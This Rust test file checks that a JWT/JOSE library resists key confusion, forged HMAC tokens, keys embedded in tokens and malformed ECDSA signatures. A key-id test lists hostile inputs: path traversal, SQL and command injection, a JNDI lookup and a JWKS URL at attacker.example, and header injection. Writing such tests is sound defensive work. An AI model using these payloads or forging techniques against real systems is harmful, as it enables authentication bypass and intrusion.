//! Which key may verify which token (threats T-44, T-48, T-54; RFC 8725 §3.1).

use assent_jose::{
    Algorithm, CompactJws, Error, HmacKey, Jwks, PublicKey, SigningKey, base64url_encode, sign_jwt,
    sign_jwt_hmac,
};
use aws_lc_rs::encoding::AsDer;
use aws_lc_rs::signature::RsaPublicKeyComponents;
use base64::Engine;
use serde_json::{Map, Value, json};

use crate::support::{EDDSA, ES256, RS256, public_key, token_by};

fn everything() -> Vec<Algorithm> {
    Algorithm::HMAC.into_iter().chain(Algorithm::ASYMMETRIC).collect()
}

/// Every way a library was seen to take a public key for a secret.
fn renderings(key: &PublicKey) -> Vec<Vec<u8>> {
    let jwk = key.to_jwk();
    let jwks = Jwks::from_keys(vec![key.clone()]);
    let octets = |name: &str| {
        let text = jwk.get(name)?.as_str()?;
        assent_jose::base64url_decode(text).ok()
    };
    let mut all = vec![
        serde_json::to_vec(&jwk).unwrap(),
        serde_json::to_vec_pretty(&jwk).unwrap(),
        jwks.text().as_bytes().to_vec(),
        key.thumbprint().into_bytes(),
    ];
    for name in ["n", "x", "y"] {
        all.extend(octets(name));
        all.extend(jwk.get(name).map(|it| it.as_str().unwrap().as_bytes().to_vec()));
    }
    for (der, label) in ders(&jwk) {
        let body = base64::engine::general_purpose::STANDARD.encode(&der);
        let lines: Vec<&str> =
            body.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
        let lines = lines.join("\n");
        let pem = format!("-----BEGIN {label}-----\n{lines}\n-----END {label}-----\n");
        for text in [
            pem.clone(),
            format!(" {pem}"),
            format!("\n{pem}"),
            format!("\u{feff}{pem}"),
            format!("{pem}\n"),
            format!("{pem}\0"),
            pem.trim_end().to_owned(),
            pem.replace('\n', "\r\n"),
            pem.replace('\n', ""),
            pem.to_lowercase(),
            lines.clone(),
            body,
        ] {
            all.push(text.into_bytes());
        }
        all.push(der);
    }
    all
}

/// The key in DER: with its kind (RFC 5280 §4.1.2.7) and, of RSA, without (RFC 8017 §A.1.1).
fn ders(jwk: &Map<String, Value>) -> Vec<(Vec<u8>, &'static str)> {
    let octets = |name: &str| assent_jose::base64url_decode(jwk[name].as_str().unwrap()).unwrap();
    if jwk["kty"] == "RSA" {
        let components = RsaPublicKeyComponents { n: octets("n"), e: octets("e") };
        let der = AsDer::<aws_lc_rs::encoding::PublicKeyX509Der<'_>>::as_der(&components).unwrap();
        let whole = der.as_ref().to_vec();
        // The number of unused bits, then the bare key, stands at the end.
        let bare = whole[24..].to_vec();
        return vec![(whole, "PUBLIC KEY"), (bare, "RSA PUBLIC KEY")];
    }
    let (kind, point): (&[u8], Vec<u8>) = match jwk["crv"].as_str().unwrap() {
        "P-256" => (
            &[
                0x30, 0x59, 0x30, 0x13, 6, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 6, 8, 0x2a, 0x86,
                0x48, 0xce, 0x3d, 3, 1, 7, 3, 0x42, 0, 4,
            ],
            [octets("x"), octets("y")].concat(),
        ),
        "P-384" => (
            &[
                0x30, 0x76, 0x30, 0x10, 6, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 6, 5, 0x2b, 0x81,
                4, 0, 0x22, 3, 0x62, 0, 4,
            ],
            [octets("x"), octets("y")].concat(),
        ),
        "P-521" => (
            &[
                0x30, 0x81, 0x9b, 0x30, 0x10, 6, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 6, 5, 0x2b,
                0x81, 4, 0, 0x23, 3, 0x81, 0x86, 0, 4,
            ],
            [octets("x"), octets("y")].concat(),
        ),
        _ => (&[0x30, 0x2a, 0x30, 5, 6, 3, 0x2b, 0x65, 0x70, 3, 0x21, 0], octets("x")),
    };
    vec![([kind, &point].concat(), "PUBLIC KEY")]
}

/// T-44: every algorithm × every rendering of its public key × every HMAC × every list of what is
/// allowed.
#[test]
fn a_public_key_never_serves_as_a_secret() {
    use Algorithm::{ES384, ES512, PS256, PS384, PS512, RS384, RS512};
    let generated = [ES384, ES512].map(|it| SigningKey::generate(it).unwrap());
    let mut publics = [&*RS256, &*ES256, &*EDDSA, &generated[0], &generated[1]]
        .map(|key| key.public_key().clone())
        .to_vec();
    for algorithm in [RS384, RS512, PS256, PS384, PS512] {
        let mut jwk = RS256.public_key().to_jwk();
        jwk.insert(String::from("alg"), json!(algorithm.name()));
        publics.push(PublicKey::from_jwk(&jwk).unwrap());
    }
    let mut refused = 0;
    for key in publics {
        let keys = Jwks::from_keys(vec![key.clone()]);
        let own = key.algorithm().unwrap();
        for secret in renderings(&key) {
            for algorithm in Algorithm::HMAC {
                let secret = HmacKey::new(&secret);
                // Shorter ones are no secrets at all.
                if !secret.fits(algorithm) {
                    continue;
                }
                let forged = sign_jwt_hmac(&secret, algorithm, "JWT", &json!({})).unwrap();
                let jws = CompactJws::parse(&forged).unwrap();
                for allowed in [&[own][..], &[own, algorithm], &everything(), &[]] {
                    let answer = jws.verify_with(&keys, allowed);
                    assert_eq!(answer, Err(Error::AlgorithmNotAllowed), "{own:?} {algorithm:?}");
                    refused += 1;
                }
                // And a name that lies about the key changes nothing.
                let header = format!(r#"{{"alg":"{}"}}"#, own.name());
                let input = format!("{}.e30", base64url_encode(header.as_bytes()));
                let code = secret.sign(algorithm, input.as_bytes()).unwrap();
                let renamed = format!("{input}.{}", base64url_encode(&code));
                let answer = CompactJws::parse(&renamed).unwrap().verify_with(&keys, &[own]);
                assert_eq!(answer, Err(Error::SignatureInvalid), "{own:?} {algorithm:?}");
            }
        }
    }
    assert!(refused > 2000, "{refused}");
}

#[test]
fn a_secret_never_verifies_what_a_key_pair_signed() {
    for key in [&*RS256, &*ES256, &*EDDSA] {
        let token = sign_jwt(key, "JWT", &json!({})).unwrap();
        let jws = CompactJws::parse(&token).unwrap();
        let secret = HmacKey::new(&serde_json::to_vec(&key.public_key().to_jwk()).unwrap());
        assert_eq!(jws.verify_hmac(&secret), Err(Error::AlgorithmNotAllowed));
    }
}

#[test]
fn only_allowed_algorithms_verify() {
    let keys = Jwks::from_keys(vec![ES256.public_key().clone()]);
    let token = sign_jwt(&ES256, "JWT", &json!({})).unwrap();
    let jws = CompactJws::parse(&token).unwrap();
    let others: Vec<_> =
        everything().into_iter().filter(|algorithm| *algorithm != Algorithm::ES256).collect();
    assert_eq!(jws.verify_with(&keys, &others), Err(Error::AlgorithmNotAllowed));
    assert_eq!(jws.verify_with(&keys, &[]), Err(Error::AlgorithmNotAllowed));
    assert!(jws.verify_with(&keys, &[Algorithm::ES256]).is_ok());
}

#[test]
fn a_key_with_alg_verifies_nothing_else() {
    // RFC 8725 §3.1: the same modulus under another algorithm is another key.
    let key = RS256.public_key();
    for algorithm in Algorithm::ASYMMETRIC {
        assert_eq!(key.fits(algorithm), algorithm == Algorithm::RS256);
        if algorithm != Algorithm::RS256 {
            let answer = key.verify(algorithm, b"m", &[0; 256]);
            assert_eq!(answer, Err(Error::AlgorithmNotAllowed));
        }
    }
    let mut jwk = key.to_jwk();
    jwk.remove("alg");
    let unbound = PublicKey::from_jwk(&jwk).unwrap();
    let fitting = Algorithm::ASYMMETRIC.into_iter().filter(|algorithm| unbound.fits(*algorithm));
    assert_eq!(fitting.count(), 6);
    let signature = RS256.sign(b"m").unwrap();
    assert_eq!(unbound.verify(Algorithm::RS256, b"m", &signature), Ok(()));
    for other in [Algorithm::RS384, Algorithm::RS512, Algorithm::PS256] {
        assert_eq!(unbound.verify(other, b"m", &signature), Err(Error::SignatureInvalid));
    }
}

#[test]
fn a_token_with_kid_is_verified_by_that_key_only() {
    let other = SigningKey::generate(Algorithm::ES256).unwrap();
    let keys = Jwks::from_keys(vec![other.public_key().clone(), ES256.public_key().clone()]);
    let verify = |header: &str| {
        let token = token_by(&ES256, header, "{}");
        CompactJws::parse(&token)?.verify_with(&keys, &[Algorithm::ES256]).map(drop)
    };
    let named = |key_id: &str| format!(r#"{{"alg":"ES256","kid":{}}}"#, json!(key_id));
    assert_eq!(verify(r#"{"alg":"ES256"}"#), Ok(()));
    assert_eq!(verify(&named(ES256.key_id())), Ok(()));
    assert_eq!(verify(&named(other.key_id())), Err(Error::SignatureInvalid));
    // T-48: nothing of it is a path, a query, an address, a pattern or a command to anybody.
    for key_id in [
        "",
        " ",
        "*",
        "%",
        "..",
        "../../../../../../dev/null",
        "/dev/tcp/localhost/80",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        "http://localhost/",
        "https://attacker.example/jwks.json",
        "' OR 1=1 --",
        "x' UNION SELECT 'key';--",
        "key; sleep 5",
        "$(id)",
        "`id`",
        "| id",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "__proto__",
        "constructor",
        "null",
        "0",
        "%00",
        "%2e%2e%2f",
        "\\\\attacker\\share",
        "\u{202e}",
    ] {
        assert_eq!(verify(&named(key_id)), Err(Error::KeyUnknown), "{key_id}");
    }
    let close = [ES256.key_id().to_lowercase(), ES256.key_id().to_uppercase()];
    let spaced = [format!(" {}", ES256.key_id()), format!("{} ", ES256.key_id())];
    for key_id in close.iter().chain(&spaced) {
        assert_eq!(verify(&named(key_id)), Err(Error::KeyUnknown), "{key_id}");
    }
    for key_id in ["a\u{0}b", "\n", "\r\nset-cookie: a=b", "\u{1b}[2J", &"k".repeat(10_240)] {
        assert_eq!(verify(&named(key_id)), Err(Error::KeyIdInvalid), "{key_id:?}");
    }
}

#[test]
fn a_key_without_kid_does_not_answer_to_one() {
    let mut jwk = ES256.public_key().to_jwk();
    jwk.remove("kid");
    let keys = Jwks::from_keys(vec![PublicKey::from_jwk(&jwk).unwrap()]);
    let token = token_by(&ES256, r#"{"alg":"ES256","kid":"k"}"#, "{}");
    let answer = CompactJws::parse(&token).unwrap().verify_with(&keys, &[Algorithm::ES256]);
    assert_eq!(answer, Err(Error::KeyUnknown));
}

#[test]
fn at_most_four_keys_are_tried_without_kid() {
    let strangers = || {
        let make = |_| SigningKey::generate(Algorithm::ES256).unwrap().public_key().clone();
        (0..3).map(make).collect::<Vec<_>>()
    };
    let token = token_by(&ES256, r#"{"alg":"ES256"}"#, "{}");
    let jws = CompactJws::parse(&token).unwrap();
    // Keys that do not fit the algorithm do not count.
    let mut keys = strangers();
    keys.extend([EDDSA.public_key().clone(), ES256.public_key().clone()]);
    assert!(jws.verify_with(&Jwks::from_keys(keys.clone()), &[Algorithm::ES256]).is_ok());
    keys.insert(0, strangers().remove(0));
    let answer = jws.verify_with(&Jwks::from_keys(keys), &[Algorithm::ES256]);
    assert_eq!(answer, Err(Error::SignatureInvalid));
    let none = Jwks::from_keys(vec![EDDSA.public_key().clone()]);
    assert_eq!(jws.verify_with(&none, &[Algorithm::ES256]), Err(Error::KeyUnknown));
}

#[test]
fn a_key_offered_by_the_token_does_not_verify_it() {
    // CVE-2018-0114.
    let attacker = SigningKey::generate(Algorithm::ES256).unwrap();
    let header = json!({ "alg": "ES256", "jwk": attacker.public_key().to_jwk() });
    let token = token_by(&attacker, &header.to_string(), "{}");
    let keys = Jwks::from_keys(vec![ES256.public_key().clone()]);
    let answer = CompactJws::parse(&token).unwrap().verify_with(&keys, &[Algorithm::ES256]);
    assert_eq!(answer, Err(Error::SignatureInvalid));
}

#[test]
fn ecdsa_signatures_are_raw_and_in_range() {
    // The order of P-256: r and s must lie strictly between zero and it.
    let order = [
        0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
        0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
    ];
    let good = ES256.sign(b"m").unwrap();
    let (r, s) = good.split_at(32);
    let der_number = |number: &[u8]| [&[2, 33, 0], number].concat();
    let der = [&[0x30, 70][..], &der_number(r), &der_number(s)].concat();
    let table: [Vec<u8>; 10] = [
        vec![],
        vec![0; 64],
        [[0; 32].as_slice(), s].concat(),
        [r, [0; 32].as_slice()].concat(),
        [order.as_slice(), s].concat(),
        [r, order.as_slice()].concat(),
        vec![0xff; 64],
        good[..63].to_vec(),
        [good.as_slice(), &[0]].concat(),
        der,
    ];
    let key = public_key(&json!(ES256.public_key().to_jwk()).to_string()).unwrap();
    for signature in table {
        let answer = key.verify(Algorithm::ES256, b"m", &signature);
        assert_eq!(answer, Err(Error::SignatureInvalid), "{}", base64url_encode(&signature));
    }
    assert_eq!(key.verify(Algorithm::ES256, b"m", &good), Ok(()));
}
